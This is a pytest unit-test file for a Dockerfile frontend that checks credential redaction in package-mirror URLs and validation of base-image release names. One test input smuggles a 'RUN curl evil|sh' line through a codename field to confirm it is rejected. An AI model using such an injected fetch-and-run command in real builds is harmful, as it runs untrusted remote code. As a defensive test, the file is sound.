"""Credentials never reach the rendered Dockerfile or a message: URLs that clearly hold
them are refused, URLs that may are warned about, and values are shown redacted."""

from __future__ import annotations

import pytest

from buildkit_frontend.base_os import BaseOS
from buildkit_frontend.credentials import redacted, token_like_path, url_credentials
from buildkit_frontend.errors import PyenvError
from buildkit_frontend.plan import plan_dockerfile
from tests.unit.facts import Images, debian

TOKEN = "glpat-9f8e7d6c5b4a39281706abcdef"


def error_of(text: str, **build_args: str) -> str:
    with pytest.raises(PyenvError) as raised:
        plan_dockerfile(text, "Dockerfile", build_args, images=debian())
    return raised.value.show()


@pytest.mark.parametrize(
    "url",
    [
        f"https://ci:{TOKEN}@pkgs.example/python/",
        f"https://{TOKEN}@pkgs.example/python/",
        f"https://pkgs.example/python/?token={TOKEN}",
        f"https://pkgs.example/python/?x=1&X-Amz-Signature={TOKEN}",
    ],
)
def test_a_python_mirror_with_credentials_is_refused_without_showing_them(url: str) -> None:
    text = "FROM img\nPYENV --provider=source 3.13 a\n"
    message = error_of(text, PYENV_PYTHON_MIRROR=url)
    assert "PYENV_PYTHON_MIRROR holds credentials" in message
    assert TOKEN not in message


def test_index_url_flags_with_credentials_are_refused_without_showing_them() -> None:
    for url in (f"https://ci:{TOKEN}@pkgs.example/simple/", f"https://p.example/?api_key={TOKEN}"):
        message = error_of(f"FROM img\nPYENV --index-url={url} 3.13 a\n")
        assert "--index-url holds credentials" in message
        assert TOKEN not in message.replace(f"PYENV --index-url={url}", "")  # the line itself


def test_a_token_in_an_index_path_is_a_warning() -> None:
    url = f"https://pypi.fury.io/{TOKEN}/team/"
    plan = plan_dockerfile(
        f"FROM img\nPYENV --index-url={url} 3.13 a\n", "Dockerfile", {}, images=debian()
    )
    (note,) = plan.notes
    assert "looks like a token (glpa...)" in note and TOKEN not in note
    assert token_like_path("https://pkgs.example/simple/") is None
    assert token_like_path("https://pkgs.example/simple/my-team-packages/") is None


def test_bad_build_arg_values_are_shown_redacted() -> None:
    message = error_of("FROM img\nPYENV 3.13 a\n", PYENV_PYTHON_MIRROR=f"ftp://u:{TOKEN}@m/")
    assert "is not an http(s) or file URL" in message and TOKEN not in message
    assert redacted(f"https://u:{TOKEN}@h/x?k={TOKEN}&a=1") == "https://***@h/x?k=***&a=***"
    assert url_credentials("https://pkgs.example/simple/?format=json") is None


@pytest.mark.parametrize("codename", ["bookworm\nRUN curl evil|sh", "BOOKWORM", "x" * 40, "a b"])
def test_a_release_read_from_the_base_is_checked_before_it_reaches_from(codename: str) -> None:
    images = Images(BaseOS("debian", codename))
    with pytest.raises(PyenvError) as raised:
        plan_dockerfile("FROM img\nPYENV 3.13 a\n", "Dockerfile", {}, images=images)
    assert "which is not a release name" in str(raised.value)
    assert "\nRUN curl" not in str(raised.value)
